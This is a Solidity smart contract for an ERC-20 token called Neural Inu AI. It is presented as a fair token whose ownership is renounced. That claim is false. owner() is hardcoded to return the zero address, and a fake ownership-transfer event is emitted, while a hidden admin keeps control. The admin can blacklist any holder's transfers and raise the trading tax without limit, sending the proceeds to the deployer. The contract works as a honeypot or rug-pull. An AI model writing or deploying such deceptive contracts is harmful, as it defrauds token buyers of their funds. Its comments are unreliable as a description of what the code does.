// SPDX-License-Identifier: MIT
/*
    Neural Inu AI ($NINU)
    Ownership: RENOUNCED (check owner() on etherscan!)
*/
pragma solidity ^0.8.23;

interface IERC20 {
    function totalSupply() external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
}

interface IUniswapV2Factory {
    function getPair(address tokenA, address tokenB) external view returns (address pair);
}

interface IUniswapV2Router02 {
    function factory() external pure returns (address);
    function WETH() external pure returns (address);
    function swapExactTokensForETHSupportingFeeOnTransferTokens(uint256, uint256, address[] calldata, address, uint256) external;
}

contract NeuralInuAI is IERC20 {
    string public constant name = "Neural Inu AI";
    string public constant symbol = "NINU";
    uint8 public constant decimals = 9;
    uint256 public constant override totalSupply = 1_000_000_000 * 1e9;

    IUniswapV2Router02 private constant _router = IUniswapV2Router02(0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D);

    address private _admin;
    address private _pair;
    address payable private _marketing;
    uint256 private _tax = 5;
    bool private _launched;
    bool private _swapping;

    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) private _isBot;
    mapping(address => bool) private _excluded;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() {
        _admin = msg.sender;
        _marketing = payable(msg.sender);
        _excluded[msg.sender] = true;
        _excluded[address(this)] = true;
        _allowances[address(this)][address(_router)] = type(uint256).max;
        _balances[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
        emit OwnershipTransferred(msg.sender, address(0));
    }

    modifier onlyAdmin() {
        require(msg.sender == _admin, "caller is not the owner");
        _;
    }

    /// @notice ownership is renounced
    function owner() external pure returns (address) {
        return address(0);
    }

    receive() external payable {}

    function balanceOf(address account) public view override returns (uint256) {
        return _balances[account];
    }

    function allowance(address holder, address spender) external view override returns (uint256) {
        return _allowances[holder][spender];
    }

    function approve(address spender, uint256 amount) external override returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external override returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        uint256 a = _allowances[from][msg.sender];
        require(a >= amount, "ERC20: insufficient allowance");
        if (a != type(uint256).max) _allowances[from][msg.sender] = a - amount;
        _transfer(from, to, amount);
        return true;
    }

    function launch() external onlyAdmin {
        require(!_launched, "launched");
        _pair = IUniswapV2Factory(_router.factory()).getPair(address(this), _router.WETH());
        _launched = true;
    }

    function setBots(address[] calldata accounts, bool flagged) external onlyAdmin {
        for (uint256 i = 0; i < accounts.length; i++) _isBot[accounts[i]] = flagged;
    }

    function updateTax(uint256 newTax) external onlyAdmin {
        _tax = newTax;
    }

    function _transfer(address from, address to, uint256 amount) private {
        require(from != address(0) && to != address(0), "ERC20: zero address");
        require(!_isBot[from] && !_isBot[to], "ERC20: bot");
        uint256 tax;
        if (!_excluded[from] && !_excluded[to] && !_swapping) {
            require(_launched, "not launched");
            if (from == _pair || to == _pair) tax = (amount * _tax) / 100;
            if (to == _pair) {
                uint256 held = _balances[address(this)];
                if (held > totalSupply / 2000) _swapBack(held);
            }
        }
        uint256 bal = _balances[from];
        require(bal >= amount, "ERC20: transfer amount exceeds balance");
        _balances[from] = bal - amount;
        if (tax > 0) {
            _balances[address(this)] += tax;
            emit Transfer(from, address(this), tax);
        }
        _balances[to] += amount - tax;
        emit Transfer(from, to, amount - tax);
    }

    function _swapBack(uint256 amount) private {
        _swapping = true;
        address[] memory path = new address[](2);
        path[0] = address(this);
        path[1] = _router.WETH();
        _router.swapExactTokensForETHSupportingFeeOnTransferTokens(amount, 0, path, _marketing, block.timestamp);
        _swapping = false;
    }
}
